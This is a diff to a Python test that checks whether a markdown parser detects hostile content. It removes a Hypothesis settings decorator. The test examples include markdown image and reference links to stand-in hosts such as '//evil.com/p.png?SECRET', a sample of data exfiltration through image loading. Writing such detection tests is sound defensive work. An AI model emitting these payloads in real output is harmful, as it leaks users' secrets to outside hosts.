@@ -5,7 +5,7 @@ from __future__ import annotations
 import itertools
 
 import pytest
-from hypothesis import example, given, settings
+from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
@@ -107,7 +107,6 @@ def test_the_parser_sees_what_is_hostile() -> None:
     assert kinds(MARKDOWN.parse("![1] [2](/x) <b>\n\n<div>\n\n[1]: //evil.example")) >= FORBIDDEN
 
 
-@settings(deadline=None, max_examples=250)
 @given(texts, st.lists(st.integers(0, 80), max_size=5))
 @example("# Garantia\n[1]: //evil.com/p.png?SECRET\n\nEl plazo [1] ![1]", [])
 @example("a]\n[1]: //evil.example\n\n[1]", [2, 3, 5])
